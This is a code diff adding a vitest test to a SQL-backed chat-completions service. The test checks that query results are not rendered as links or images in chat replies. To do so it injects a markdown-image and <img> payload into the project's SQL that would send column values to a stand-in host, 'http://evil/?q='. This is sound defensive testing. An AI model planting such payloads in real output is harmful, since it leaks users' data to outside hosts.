@@ -1,6 +1,7 @@
 // Shapes that clients rely on where an answer is not the usual one: failures, CSV, the model of a chat, lens-less SQL.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startTestApp, type TestApp } from '../support/app.ts';
+import { loadProjectFolder } from '../../src/lens/load-project-folder.ts';
+import { SHOP, startTestApp, type TestApp } from '../support/app.ts';
 
 let svc: TestApp;
 beforeAll(async () => {
@@ -57,4 +58,30 @@ it('the receipt of SQL on a connection tells a caller nothing of the admin who r
   const verify = async (token: string) => (await svc.post('/v1/verify-receipt', asked.body.receipt, token)).body;
   expect(await verify(svc.adminToken)).toMatchObject({ ok: true, trace_found: true });
   expect(await verify(svc.callerKey)).toMatchObject({ ok: false, trace_found: false, caller: null, question: null });
+});
+
+it('no cell becomes a link or an image in what a chat client renders', async () => {
+  const files = await loadProjectFolder(SHOP);
+  const evil = await startTestApp({
+    files: {
+      ...files,
+      'svc.config.yaml': files['svc.config.yaml']!.replace(
+        'region, segment,',
+        "region, '![x](http://evil/?q=' || segment || ') <img src=x>' as segment,",
+      ),
+    },
+  });
+  try {
+    for (const format of ['both', 'structured']) {
+      const { body } = await evil.post('/v1/chat/completions', {
+        model: 'svc/shop',
+        messages: [{ role: 'user', content: 'revenue by segment' }],
+        format,
+      });
+      expect(body.choices[0].message.content).toContain('x');
+      expect(body.choices[0].message.content).not.toMatch(/\]\(|!\[|<img/);
+    }
+  } finally {
+    await evil.close();
+  }
 });
